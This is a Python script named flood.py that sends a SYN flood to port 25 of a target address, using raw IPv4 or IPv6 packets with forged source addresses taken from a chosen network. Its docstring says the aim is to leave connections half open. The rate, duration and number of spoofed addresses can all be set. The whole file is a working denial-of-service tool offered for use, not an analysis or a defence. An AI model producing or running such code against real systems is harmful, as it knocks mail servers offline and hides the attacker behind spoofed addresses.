#!/usr/bin/env python3
"""flood.py - so many SYNs a second to port 25, from forged addresses of one network, for so long.

Bounded in number by rate and time. Nobody answers for the addresses, so each
SYN begins a connection that stays half open. Prints how many were sent.
"""

import argparse
import ipaddress
import random
import socket
import struct
import time

BURST = 20      # SYNs between two looks at the clock


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, port):
    tcp = struct.pack("!HHIIBBHHH4s", port, 25, random.getrandbits(32), 0, 6 << 4, 2, 64240, 0, 0, b"\2\4\5\xb4")
    pseudo = source.packed + target.packed + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source.packed + target.packed + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + source.packed + target.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--rate", type=int, default=10000)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--addresses", type=int, default=50000)
    parser.add_argument("network", help="of the senders")
    parser.add_argument("address")
    options = parser.parse_args()
    first = int(ipaddress.ip_network(options.network).network_address)
    target = ipaddress.ip_address(options.address)
    make = type(target)
    packets = [syn(make(first + 1 + i), target, random.randint(1024, 65535)) for i in range(options.addresses)]
    family = socket.AF_INET if target.version == 4 else socket.AF_INET6
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, begin = 0, time.monotonic()
    while (now := time.monotonic() - begin) < options.seconds:
        while sent < options.rate * now:
            for _ in range(BURST):
                raw.sendto(packets[sent % len(packets)], (options.address, 0))
                sent += 1
        time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    main()
